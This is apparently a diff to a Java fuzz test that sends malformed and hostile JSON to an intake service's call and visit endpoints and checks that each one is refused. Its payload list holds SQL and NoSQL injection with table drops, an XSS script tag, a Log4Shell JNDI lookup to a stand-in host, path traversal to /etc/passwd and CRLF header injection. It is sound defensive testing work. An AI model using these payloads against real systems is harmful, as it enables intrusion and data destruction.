@@ -12,6 +12,9 @@ import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.Random;
+import java.util.Set;
+import java.time.OffsetDateTime;
+import java.time.ZoneId;
 
 /**
  * Requests an attacker or a broken client sends: every one invalid in at least one way — a field missing, of the wrong
@@ -27,9 +30,20 @@ final class Hostile {
     private static final String[] INJECTIONS = {"'; DROP TABLE contacts; --", "\"}); db.contacts.drop(); //",
             "<script>alert('投诉')</script>", "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../../../etc/passwd",
             "；删除所有数据——管理员", "王女士' OR '1'='1", "\u202e反转文字", "%00%0d%0aSet-Cookie: x=1"};
-    private static final String VALID_CALL = "{\"callerName\":\"王女士\",\"phone\":\"13912345678\","
-            + "\"projectCode\":\"SH-LJY\",\"matter\":\"卫生间漏水\",\"category\":\"REPAIR\",\"settledOnCall\":false,"
-            + "\"ringCount\":2}";
+    /** The valid body of each endpoint and the names of its fields that each mutation breaks. */
+    private record Endpoint(String path, String valid, String name, String text, String flag, String other) {
+    }
+
+    private static final List<Endpoint> ENDPOINTS = List.of(
+            new Endpoint("/api/v1/calls", "{\"callerName\":\"王女士\",\"phone\":\"13912345678\","
+                    + "\"projectCode\":\"SH-LJY\",\"matter\":\"卫生间漏水\",\"category\":\"REPAIR\","
+                    + "\"settledOnCall\":false,\"ringCount\":2}", "callerName", "matter", "settledOnCall", "ringCount"),
+            new Endpoint("/api/v1/visits", "{\"arrivedAt\":\"ARRIVED\",\"visitorName\":\"王女士\","
+                    + "\"phone\":\"13912345678\",\"projectCode\":\"SH-LJY\",\"purpose\":\"卫生间漏水\","
+                    + "\"category\":\"REPAIR\",\"settledOnVisit\":false}", "visitorName", "purpose",
+                    "settledOnVisit", "arrivedAt"));
+    /** What a refused body may be answered: invalid, too large, not JSON, or not processable. */
+    private static final Set<Integer> REFUSALS = Set.of(400, 413, 415, 422);
 
     private static final String FLIPS = "{}[]\",:\\\u0000漏";
 
@@ -41,8 +55,9 @@ final class Hostile {
         List<String> violations = new ArrayList<>();
         String intake = cluster.serviceUrl("intake-service");
         for (int i = 0; i < count; i++) {
-            String path = i % 2 == 0 ? "/api/v1/calls" : "/api/v1/visits";
-            byte[] body = body(i);
+            Endpoint endpoint = ENDPOINTS.get(i % 2);
+            String path = endpoint.path();
+            byte[] body = body(i / 2, endpoint);
             String contentType = i % 17 == 5 ? "text/plain;charset=UTF-8" : "application/json";
             try {
                 HttpResponse<String> reply = http.send(HttpRequest.newBuilder(URI.create(intake + path))
@@ -52,7 +67,7 @@ final class Hostile {
                         .POST(HttpRequest.BodyPublishers.ofByteArray(body)).build(),
                         HttpResponse.BodyHandlers.ofString());
                 byStatus.merge(reply.statusCode(), 1, Integer::sum);
-                if (reply.statusCode() < 400 || reply.statusCode() >= 500) {
+                if (!REFUSALS.contains(reply.statusCode())) {
                     violations.add("hostile request " + i + " to " + path + " answered " + reply.statusCode());
                 } else if (reply.statusCode() == 400 && !reply.body().contains("\"status\":400")) {
                     violations.add("hostile request " + i + " answered 400 without a problem document");
@@ -68,28 +83,34 @@ final class Hostile {
         return new Result(count, byStatus, violations);
     }
 
-    private byte[] body(int i) {
+    private byte[] body(int i, Endpoint e) {
         String injection = INJECTIONS[i % INJECTIONS.length];
+        String valid = e.valid().replace("ARRIVED", OffsetDateTime.now(ZoneId.of("Asia/Shanghai")).toString());
         String text = switch (i % 12) {
-            case 0 -> VALID_CALL.replace("\"phone\":\"13912345678\"", "\"phone\":\"" + json(injection) + "\"");
-            case 1 -> VALID_CALL.replace("\"ringCount\":2", "\"ringCount\":\"" + json(injection) + "\"");
-            case 2 -> VALID_CALL.replace("\"matter\":\"卫生间漏水\"", "\"matter\":\"" + "漏".repeat(20_000 + i) + "\"");
-            case 3 -> VALID_CALL.replace("\"phone\":\"13912345678\"", "\"phone\":{\"$ne\":null}");
-            case 4 -> VALID_CALL.replace("\"category\":\"REPAIR\"", "\"category\":\"" + json(injection) + "\"");
-            case 5 -> VALID_CALL.substring(0, 20 + random.nextInt(VALID_CALL.length() - 40));
-            case 6 -> VALID_CALL.replace("}", ",\"isAdmin\":true,\"note\":\"" + json(injection) + "\"}");
-            case 7 -> VALID_CALL.replace("\"settledOnCall\":false", "\"settledOnCall\":[\"" + json(injection) + "\"]");
+            case 0 -> valid.replace("\"13912345678\"", "\"" + json(injection) + "\"");
+            case 1 -> set(valid, e.other(), "\"" + json(injection) + "\"");
+            case 2 -> set(valid, e.text(), "\"" + "漏".repeat(20_000 + i) + "\"");
+            case 3 -> valid.replace("\"13912345678\"", "{\"$ne\":null}");
+            case 4 -> set(valid, "category", "\"" + json(injection) + "\"");
+            case 5 -> valid.substring(0, 20 + random.nextInt(valid.length() - 40));
+            case 6 -> valid.replaceFirst("}$", ",\"isAdmin\":true,\"note\":\"" + json(injection) + "\"}");
+            case 7 -> set(valid, e.flag(), "[\"" + json(injection) + "\"]");
             case 8 -> "[".repeat(5_000) + "]".repeat(5_000);
-            case 9 -> VALID_CALL.replace("\"callerName\":\"王女士\"", "\"callerName\":\"" + json(injection)
-                    + "名".repeat(60) + "\"").replace("\"projectCode\":\"SH-LJY\"", "\"projectCode\":\"X' OR 1=1\"");
-            case 10 -> VALID_CALL.replace("\"callerName\":\"王女士\",", "").replace("\"matter\":\"卫生间漏水\"",
-                    "\"matter\":\"" + json(injection) + "\"");
-            default -> mutate(VALID_CALL);
+            case 9 -> set(set(valid, e.name(), "\"" + json(injection) + "名".repeat(60) + "\""), "projectCode",
+                    "\"X' OR 1=1\"");
+            case 10 -> set(valid, e.text(), "\"" + json(injection) + "\"").replace("\"" + e.name() + "\":\"王女士\",", "");
+            default -> mutate(valid);
         };
         if (i % 23 == 11) {
             return new byte[] {'{', '"', 'm', '"', ':', '"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"', '}'};
         }
         return text.getBytes(StandardCharsets.UTF_8);
+    }
+
+    /** The body with one field's value replaced by raw JSON. */
+    private static String set(String body, String field, String json) {
+        return body.replaceFirst("\"" + field + "\":(\"[^\"]*\"|[^,}]*)", java.util.regex.Matcher.quoteReplacement(
+                "\"" + field + "\":" + json));
     }
 
     /** Random bytes flipped: mostly not JSON any more; the phone is broken too, so that no mutation can be valid. */
